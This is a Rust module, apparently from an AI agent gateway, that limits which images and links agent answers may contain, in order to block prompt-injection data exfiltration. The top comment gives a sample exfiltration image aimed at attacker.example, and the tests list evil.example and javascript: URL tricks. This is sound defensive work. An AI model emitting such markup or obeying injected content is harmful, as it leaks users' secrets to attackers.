//! Links and images in what agents answer.
//!
//! Whoever can write into what an agent reads (a page, a file, a server of tools) can try to have it
//! write `![](https://attacker.example/?q=<what it knows>)`. A front end fetches that picture without a
//! click, and the secret is out. Chat products meet this in their front ends: ChatGPT and Claude load
//! pictures from their own hosts alone, Copilot takes pictures and links of other hosts out of the text.
//! A gateway has no front end, so the text itself must be harmless:
//!
//! - **Images** are kept where their host is on the operators' list, or where they name no host (a
//!   relative path). Others are replaced by `(image removed: alt)`. Images by reference, and whatever is
//!   not written in the plainest form, lose their meaning as images (`! [`): where two renderers could
//!   read two things, it is taken for the worse. Raw HTML that could load something is shown as text.
//! - **Links** are fetched by nobody before a person follows them, so they are kept by default. Operators
//!   whose front ends fetch previews, or whose people click, choose `seen` (what a tool or an earlier
//!   answer has named exactly, hosts the user has named, and the list) or `listed`. A seen *host* is not
//!   enough where a tool named it: the page that misleads an agent is a page it has seen.
//! - **Code** is kept as it is where every renderer takes it for code: fences and spans of one line, but
//!   not behind something that some take for an open block (raw HTML, formulas).
//! - Text without such syntax is not touched, and not held back.
//!
//! That nothing loads was tried against markdown-it, commonmark.js and marked (with and without KaTeX), raw
//! HTML on, with 800,000 texts made of what they read differently: 2026-11.
//!
//! The policy holds for text, reasoning and refusals of every answer, before they are told or written
//! down: followers, journal, steps, threads and the model's next turn have the same words, so that no
//! other door leads to the original. Reasoning that a provider has signed goes back to it as it is.
//! Arguments and outputs of tools are data, and front ends must show them as that.
//!
//! ```yaml
//! agent_settings:
//!   links: { images: listed, links: any, allowed_hosts: [cdn.example.com, '*.wiki.example'] }
//! ```

use std::collections::BTreeSet;

use serde::Deserialize;
use serde_json::Value;

use crate::outgoing::HostPattern;
use crate::run::Plan;
use crate::run::journal::State;

mod guard;

pub use guard::{Guard, HELD_MAX};

/// What answers may link to.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct LinkPolicy {
    /// Whose images may be shown.
    pub images: Images,
    /// Where links may lead.
    pub links: Links,
    /// The hosts that may be shown and linked to: `cdn.example.com`, or `*.example.com` for all below.
    pub allowed_hosts: Vec<HostPattern>,
}

/// Whose images may be shown.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Images {
    /// Those of `allowed_hosts`.
    #[default]
    Listed,
    /// All.
    Any,
}

/// Where links may lead.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Links {
    /// Anywhere.
    #[default]
    Any,
    /// To `allowed_hosts`, to hosts the user has named, and to what was named in the run exactly so.
    Seen,
    /// To `allowed_hosts`.
    Listed,
}

impl LinkPolicy {
    /// Whether nothing is held back.
    fn is_open(&self) -> bool {
        self.images == Images::Any && self.links == Links::Any
    }

    fn lists(&self, host: &str) -> bool {
        self.allowed_hosts.iter().any(|allowed| allowed.matches(host))
    }

    /// Whether an image may be fetched from there.
    fn shows(&self, target: &str) -> bool {
        if self.images == Images::Any {
            return true;
        }
        match host(target) {
            Some(host) => self.lists(&host),
            // A question to the front end's own host can do something there.
            None => (is_relative(target) && !target.contains('?')) || is_embedded(target),
        }
    }

    /// Whether a link may lead there.
    fn leads(&self, target: &str, known: &Known) -> bool {
        match (self.links, host(target)) {
            (Links::Any, Some(_)) => true,
            (Links::Any, None) => is_relative(target) || target.starts_with("mailto:"),
            (_, None) => is_relative(target),
            (Links::Listed, Some(host)) => self.lists(&host),
            (Links::Seen, Some(host)) => {
                self.lists(&host)
                    || known.hosts.contains(&host)
                    || known.urls.contains(&normal(target))
            }
        }
    }
}

/// What was named in a conversation.
#[derive(Clone, Debug, Default)]
pub struct Known {
    /// Hosts that the user, or who has set the agent up, has named.
    hosts: BTreeSet<String>,
    /// What tools and earlier answers have named.
    urls: BTreeSet<String>,
}

impl Known {
    /// What is known in a run. Nothing is looked for where the policy does not ask.
    pub(crate) fn of(policy: &LinkPolicy, plan: &Plan, state: &State) -> Known {
        let mut known = Known::default();
        if policy.links != Links::Seen {
            return known;
        }
        known.hear("system", plan.instructions.as_deref().unwrap_or_default());
        for message in plan.messages.iter().chain(&state.messages) {
            let role = message["role"].as_str().unwrap_or_default();
            match &message["content"] {
                Value::String(text) => known.hear(role, text),
                Value::Array(parts) => {
                    parts.iter().filter_map(|part| part["text"].as_str()).for_each(|text| {
                        known.hear(role, text);
                    });
                }
                _ => {}
            }
        }
        known
    }

    /// Takes what somebody has said.
    pub fn hear(&mut self, role: &str, text: &str) {
        for url in urls(text) {
            match role {
                "tool" | "assistant" => {
                    self.urls.insert(normal(url));
                }
                _ => self.hosts.extend(host(url)),
            }
        }
    }
}

/// The URLs in a text.
fn urls(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("://").filter_map(|(at, _)| {
        let scheme = text[..at].bytes().rev().take_while(u8::is_ascii_alphabetic).count();
        let url = &text[at - scheme..];
        let url = &url[..url.find(ends_url).unwrap_or(url.len())];
        host(url).is_some().then(|| url.trim_end_matches(TRAILING))
    })
}

/// What may mean something else to some reader of a target.
const UNCLEAR: &str = "\\`$[]()<>\"'!";

/// What follows a URL in a sentence and does not belong to it.
const TRAILING: &[char] = &['.', ',', ';', ':', '!', '?', '*', '_', '~'];

/// Whether a URL in running text ends here.
fn ends_url(c: char) -> bool {
    c.is_whitespace() || c.is_control() || "<>\"'`()[]{}|\\".contains(c)
}

/// The host of a URL by HTTP that every reader takes for the same; to others, nobody may be led.
fn host(url: &str) -> Option<String> {
    let (scheme, rest) = url.split_once("://")?;
    if !scheme.eq_ignore_ascii_case("https") && !scheme.eq_ignore_ascii_case("http") {
        return None;
    }
    let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '-');
    let (host, rest) = rest.split_at(end.unwrap_or(rest.len()));
    let rest = match rest.strip_prefix(':') {
        Some(port) => port.trim_start_matches(|c: char| c.is_ascii_digit()),
        None => rest,
    };
    let is_plain = !host.is_empty()
        && (rest.is_empty() || rest.starts_with(['/', '?', '#']))
        && !rest.contains(|c: char| c.is_control() || c.is_whitespace() || UNCLEAR.contains(c));
    is_plain.then(|| host.to_ascii_lowercase())
}

/// Whether a target names no host and no scheme, for any reader.
fn is_relative(target: &str) -> bool {
    !target.starts_with("//")
        && !target.contains(|c: char| {
            c.is_control() || c.is_whitespace() || c == ':' || c == '&' || UNCLEAR.contains(c)
        })
}

/// Whether an image is in the text itself.
fn is_embedded(target: &str) -> bool {
    let Some(data) = target.strip_prefix("data:image/") else { return false };
    let Some((kind, data)) = data.split_once(";base64,") else { return false };
    let is_digit = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
    matches!(kind, "png" | "jpeg" | "gif" | "webp") && data.bytes().all(is_digit)
}

/// A URL in the form in which two are compared.
fn normal(url: &str) -> String {
    let url = url.split('#').next().unwrap_or_default().trim_end_matches(TRAILING);
    let url = url.strip_suffix('/').unwrap_or(url);
    let end = url.find("://").map_or(0, |at| at + 3);
    let end = url[end..].find(['/', '?']).map_or(url.len(), |at| end + at);
    url[..end].to_ascii_lowercase() + &url[end..]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_is_what_every_reader_takes_it_for() {
        for (url, expect) in [
            ("https://a.example", Some("a.example")),
            ("HTTP://A.example:8080/x?y#z", Some("a.example")),
            ("https://a.example@evil.example/", None),
            ("https://a.example:80@evil.example/", None),
            ("https://a.example\\@evil.example/", None),
            ("https://a.example&sol;@evil.example/", None),
            ("https://a.exämple/", None),
            ("https:///evil.example", None),
            ("https:/evil.example", None),
            ("//evil.example", None),
            ("ftp://evil.example", None),
            ("javascript://a.example/%0aalert(1)", None),
            ("https://a.example/\\..\\x", None),
        ] {
            assert_eq!(host(url).as_deref(), expect, "{url}");
        }
        for target in ["a.png", "/v1/files/x", "../a?b=c", "#part", ""] {
            assert!(is_relative(target), "{target}");
        }
        for target in ["//evil", "/\\evil", "\\\\evil", "https:evil", "https&colon;//evil", "a b"] {
            assert!(!is_relative(target), "{target}");
        }
    }

    #[test]
    fn seen_is_what_tools_named_exactly_and_hosts_of_the_user() {
        let policy = LinkPolicy { links: Links::Seen, ..LinkPolicy::default() };
        let mut known = Known::default();
        known.hear("user", "What is on https://mine.example/start?");
        known.hear("tool", "{\"url\":\"https://Found.example/a/\"}, <https://found.example/b#c>.");
        for (target, expect) in [
            ("https://mine.example/other?q=1", true),
            ("https://found.example/a", true),
            ("https://found.example/b", true),
            ("https://found.example/b#there", true),
            ("https://found.example/b?q=secret", false),
            ("https://found.example/A", false),
            ("https://other.example/", false),
            ("mailto:evil@example.com", false),
            ("notes.md", true),
        ] {
            assert_eq!(policy.leads(target, &known), expect, "{target}");
        }
    }
}
